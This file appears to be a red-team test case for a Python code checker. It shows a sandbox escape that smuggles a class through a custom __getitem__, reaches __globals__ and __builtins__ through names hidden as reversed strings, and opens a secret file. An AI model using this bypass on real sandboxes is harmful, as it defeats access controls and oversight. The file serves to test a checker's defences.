# family: red team, round 22 (what a method's self may be: classes reaching parameters, methods run with any self)
# Chain: `spy[Reader]` hands the class to spy.__getitem__ (the tool's own). A class name as a subscript key is a
# lookup operand, not a "class used as a value" (objects._classes_as_values; checker._subscript only guards
# type(x) keys), so k.fetch on a parameter stays "bound" (objects._bound): Reader.fetch runs with a namedtuple
# as self, and its class-constant self.FIELDS is a run-time ["__globals__"].
from collections import namedtuple


class Reader:
    FIELDS = ("name",)

    def fetch(self, fn):
        out = []
        for key in self.FIELDS:
            out.append(getattr(fn, key))
        return out


class Spy:
    def __init__(self):
        self.got = []

    def __getitem__(self, other):
        self.got.append(other)
        return True


Box = namedtuple("Box", "FIELDS")


def call_read(k, obj, fn):
    return k.fetch(obj, fn)


def helper():
    return 1


def run():
    spy = Spy()
    spy[Reader]
    box = Box(["".join(reversed("__slabolg__"))])
    got = call_read(spy.got[0], box, helper)[0]
    print(sorted(got.keys())[:8])
    b = got["".join(reversed("__snitliub__"))]
    print(b)
    print(getattr(b, "open")("/tmp/r22/work/secret.txt").read())


run()
